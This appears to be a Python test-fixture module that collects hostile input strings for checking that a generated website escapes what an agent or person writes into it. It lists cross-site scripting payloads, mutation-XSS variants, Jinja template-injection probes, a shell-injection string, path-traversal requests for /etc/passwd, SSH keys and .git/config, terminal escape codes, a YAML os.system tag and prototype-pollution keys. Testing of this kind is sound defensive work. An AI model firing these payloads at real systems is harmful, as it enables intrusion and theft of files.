"""Texts that attack a page, a path or a template: what a model or a person may well have written into a world.

Each is harmless where it is shown as text. Where one is let loose it opens a dialog, asks another host, sets a mark in
the window, or breaks the page; ``tests/browser/watching.py`` sees all of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Kind = Literal[
    "html", "attribute", "script", "address", "markdown", "template", "style", "path", "text", "control", "key"
]  # fmt: skip
ELSEWHERE = "https://attack.invalid/"
DO = "alert(1)"
SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


@dataclass(frozen=True, slots=True)
class Attack:
    """One attacking text.

    Attributes:
        name: What it tries, for messages of tests.
        text: What is written into the world.
        kind: Where it would do harm; ``control`` holds characters that no page can show as they are.
        raw: It attacks a page into whose body it is printed raw, without any action of the reader.
    """

    name: str
    text: str
    kind: Kind
    raw: bool = False


def _raw(**texts: str) -> tuple[Attack, ...]:
    return tuple(Attack(name.replace("_", " "), text, "html", raw=True) for name, text in texts.items())


def _of(kind: Kind, **texts: str) -> tuple[Attack, ...]:
    return tuple(Attack(name.replace("_", " "), text, kind) for name, text in texts.items())


HTML = _raw(
    script=f"<script>{DO}</script>",
    script_from_elsewhere=f'<script src="{ELSEWHERE}a.js"></script>',
    image_that_fails=f"<img src=x onerror={DO}>",
    image_from_elsewhere=f'<img src="{ELSEWHERE}a.png" alt="">',
    svg_on_load=f"<svg onload={DO}>",
    svg_script=f"<svg><script>{DO}</script></svg>",
    svg_animate=f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    open_details=f"<details open ontoggle={DO}>",
    autofocus=f"<input autofocus onfocus={DO}>",
    frame=f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    frame_script=f'<iframe src="javascript:parent.{DO}"></iframe>',
    object_from_elsewhere=f'<object data="{ELSEWHERE}a.svg"></object>',
    style_from_elsewhere=f'<link rel="stylesheet" href="{ELSEWHERE}a.css">',
    style_import=f"<style>@import '{ELSEWHERE}b.css';</style>",
    mark_in_the_window="<img src=y onerror=window.__attacked=1>",
    out_of_a_title=f"</title><script>{DO}</script>",
    out_of_a_text_box=f"</textarea><script>{DO}</script>",
    out_of_a_script=f"</script><script>{DO}</script>",
    out_of_a_style=f"</style><img src=x onerror={DO}>",
    out_of_a_comment=f"--><img src=x onerror={DO}>",
    out_of_nested_comment=f"<!--<script>--><img src=x onerror={DO}>",
    mutation_math=f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={DO}&gt;">'
    f"<img src=x onerror={DO}>",
    mutation_noscript=f'<noscript><p title="</noscript><img src=x onerror={DO}>">',
    mutation_svg=f'<svg><p><style><a id="</style><img src=1 onerror={DO}>">',
    broken_tag=f"<img/src=x/onerror={DO}//",
    capitals=f"<ScRiPt>{DO}</sCrIpT>",
    slash_for_space=f"<svg/onload={DO}//",
)
# What would be handled differently where it is parsed twice: it runs nowhere when it is printed raw once.
MUTATIONS = _of(
    "html",
    mutation_glyph=f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={DO}&gt;">',
    mutation_form=f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={DO}>",
    mutation_annotation='<math><annotation-xml encoding="text/html"><style><img title="</style>'
    f'<img src onerror={DO}>">',
    mutation_template=f"<template><s><template><s><img src=x onerror={DO}>@shafigullin</s></template></s></template>",
    entities=f"&lt;img src=x onerror={DO}&gt;",
    entities_without_end=f"&#60img src=x onerror={DO}&#62",
    entities_of_entities=f"&amp;lt;script&amp;gt;{DO}&amp;lt;/script&amp;gt;",
    utf7=f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    wide_brackets=f"＜script＞{DO}＜/script＞",
    base="<base href='https://attack.invalid/'>",
    refresh=f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    form=f'<form action="{ELSEWHERE}"><button>Weiter</button></form>',
    clobbering="<form id=attributes name=body><input name=parentNode id=getElementById></form>",
)
ATTRIBUTES = _of(
    "attribute",
    out_of_double_quotes=f'" autofocus onfocus="{DO}" x="',
    out_of_single_quotes=f"' autofocus onfocus='{DO}' x='",
    out_of_backticks=f"` onmouseover={DO} `",
    out_of_no_quotes=f"x onmouseover={DO} tabindex=1",
    out_of_a_tag=f'"><svg onload={DO}>',
    out_of_a_tag_single=f"'><svg onload={DO}>",
    style_attribute=f'" style="background:url({ELSEWHERE}c.png)',
)
SCRIPTS = _of(
    "script",
    out_of_a_string=f'"-{DO}-"',
    out_of_a_string_single=f"'-{DO}-'",
    out_of_a_string_escaped=f'\\";{DO};//',
    template_string=f"${{{DO}}}",
    line_separator=f"\u2028{DO}\u2029",
    json_block=f'"}}]}}</script><script>{DO}</script>',
    json_comment="<!--<script>",
)
ADDRESSES = _of(
    "address",
    javascript=f"javascript:{DO}",
    javascript_tab=f"java\tscript:{DO}",
    javascript_entity=f"javascript&colon;{DO}",
    javascript_space=f" \u00a0javascript:{DO}",
    data_page=f"data:text/html,<script>{DO}</script>",
    data_picture=SVG,
    vbscript="vbscript:msgbox(1)",
    other_host="//attack.invalid/a",
    other_host_backslash="\\\\attack.invalid\\a",
    file_address="file:///etc/passwd",
)
MARKDOWN = _of(
    "markdown",
    markdown_script_link=f"[Mehr](javascript:{DO})",
    markdown_script_link_capitals=f"[Mehr](JaVaScRiPt:{DO})",
    markdown_script_link_entity=f"[Mehr](javascript&#58;{DO})",
    markdown_script_link_bracket=f"[Mehr](<javascript:{DO}>)",
    markdown_auto_link=f"<javascript:{DO}>",
    markdown_reference=f"[Mehr]\n\n[Mehr]: javascript:{DO}",
    markdown_data_link="[Mehr](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    markdown_picture=f"![Bild]({ELSEWHERE}d.png)",
    markdown_picture_script=f"![Bild](javascript:{DO})",
    markdown_picture_data=f"![Bild]({SVG})",
    markdown_picture_breakout=f'![Bild](x"onerror="{DO})',
    markdown_title_breakout=f"[Mehr](x 'a\"onmouseover=\"{DO}')",
    markdown_html_in_link=f"[<img src=x onerror={DO}>](y)",
    markdown_code_breakout=f"```<img src=x onerror={DO}>\n</code></pre><img src=x onerror={DO}>\n```",
    markdown_traversal="[Mehr](../../../../etc/passwd) ![Bild](../../gm.yaml)",
    markdown_html_block=f"<div>\n\n*a*<img src=x onerror={DO}>\n\n</div>",
    markdown_headings_of_the_page="# main\n\n## skip\n\n# main",
)
TEMPLATES = _of(
    "template",
    jinja_sum="{{7*7}}",
    jinja_settings="{{config.__class__.__init__.__globals__}}",
    jinja_block="{% for x in range(9) %}A{% endfor %}",
    jinja_include="{% include 'gm.yaml' %}",
    jinja_comment="{# weg #}",
    percent_format="%s%s%n %(name)s",
    brace_format="{0.__class__} {name} {}",
    shell="$(touch attacked) `touch attacked` ; touch attacked",
)
STYLES = _of(
    "style",
    style_address=f"url({ELSEWHERE}e.png)",
    style_breakout=f"red;}} body{{background:url({ELSEWHERE}f.png)}}",
    style_import_text=f"@import url({ELSEWHERE}g.css);",
    style_expression=f"width:expression({DO})",
)
PATHS = _of(
    "path",
    up="../../../../etc/passwd",
    up_windows="..\\..\\..\\windows\\win.ini",
    up_escaped="..%2f..%2f..%2fetc%2fpasswd",
    up_escaped_twice="..%252f..%252fetc%252fpasswd",
    up_doubled="....//....//etc/passwd",
    up_wide="．．／．．／etc／passwd",
    absolute="/etc/passwd",
    absolute_windows="C:\\Windows\\win.ini",
    device_windows="CON",
    trailing_dots="name. . .",
    hidden=".git",
    home="~root/.ssh/id_rsa",
    settings="../gm.yaml",
    option="--help",
    query_and_fragment="a?b=c#d&e=f",
    percent="100%",
)
TEXTS = _of(
    "text",
    one_word="Aschenwüstenturm" * 60,
    one_word_no_hyphens="W" * 900,
    many_accents="Z" + "\u0351\u034b\u0321" * 40 + "algo",
    right_to_left="مرحبا بالعالم \u05e9\u05dc\u05d5\u05dd",
    direction_override="\u202etxt.exe\u202c harmlos",
    direction_isolate="\u2067verkehrt",
    emoji="👩‍👩‍👧‍👦🏳️‍🌈🧗🏿‍♀️ 🇩🇪",
    zero_width="un\u200bsicht\u200dbar\ufeff",
    decomposed="Bru\u0308cke Vo\u0308lva",
    umlauts="Äußerst große Übergröße: »Fußgängerübergänge«",
    only_spaces="   ",
    lines="eins\nzwei\r\ndrei\rvier",
    markup_of_tables="| a | b |\n|---|---|\n| 1 | 2 |",
    quotes="„a“ »b« 'c' \"d\" `e` ‚f‘",
    numbers="0x1F 1e309 -0 NaN Infinity",
    yaml="- a: &x [*x]\n!!python/object:os.system {}",
)
LONG = Attack("a hundred kilobytes", "Der Turm steht schief, und keiner sagt es. " * 2400, "text")
CONTROLS = _of(
    "control",
    nul="vor\x00nach",
    bell_and_escape="vor\x07\x1b[31mrot\x1b[0m\x08nach",
    terminal_title="\x1b]0;attacked\x07nach",
    c1="vor\x85\x9bnach",
    lone_noncharacter="vor\ufffe\uffffnach",
    form_feed="vor\x0c\x0bnach",
)
KEYS = _of(
    "key",
    prototype="__proto__",
    constructor="constructor",
    to_string="toString",
    has_own="hasOwnProperty",
    clobber_location="location",
    clobber_document="document",
    empty_like="null",
    number_like="0",
)
ATTACKS: tuple[Attack, ...] = (
    *HTML, *MUTATIONS, *ATTRIBUTES, *SCRIPTS, *ADDRESSES, *MARKDOWN, *TEMPLATES, *STYLES, *PATHS, *TEXTS, LONG,
    *CONTROLS, *KEYS,
)  # fmt: skip
SHORT = tuple(item for item in ATTACKS if len(item.text) <= 160 and item.text.strip() and "\n" not in item.text)
"""Those that can be a name or a title: one line, and not long."""
FILE_NAMES = tuple(
    item
    for item in SHORT
    if item.text.isprintable() and "/" not in item.text and not item.text.startswith(".") and len(item.text) <= 60
)
"""Those that a file system takes as a name, with an ending behind it."""

TARGETS = ("etc/passwd", "gm.yaml", "state/world.json", ".git/config")
UPS = (
    "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "....//", "..;/", "..\\", "..%5c",
    "%c0%ae%c0%ae/",
)  # fmt: skip
FOLDERS = ("", "static/", "agents/", "days/", "artifacts/", "gallery/", "files/", "static/x/")
ODD = (
    "//etc/passwd", "/%2fetc/passwd", "/agents/%00.html", "/agents/a%00b.html", "/days/%0d%0aX-Attacked:1.html",
    "/days/999999999999999999999.html", "/days/-1.html", "/days/%d9%a3.html", "/agents/.html", "/agents/..html",
    f"/agents/{'a' * 4000}.html", "/agents/_110000_.html", "/agents/_d800_.html", "/static/", "/agents/",
    "/C:/Windows/win.ini", "/static/C:%5cWindows%5cwin.ini", "/static/%2e", "/static/..", "/%", "/%zz", "/%ff%fe",
)  # fmt: skip


def requests_by_hand() -> tuple[str, ...]:
    """Return paths that other programs can ask for, though no browser would: nothing is to be found at any."""
    climbs = [f"/{folder}{up * 6}{target}" for folder in FOLDERS for up in UPS for target in TARGETS[:2]]
    return (*climbs, *(f"/{target}" for target in TARGETS), *(f"//{target}" for target in TARGETS), *ODD)
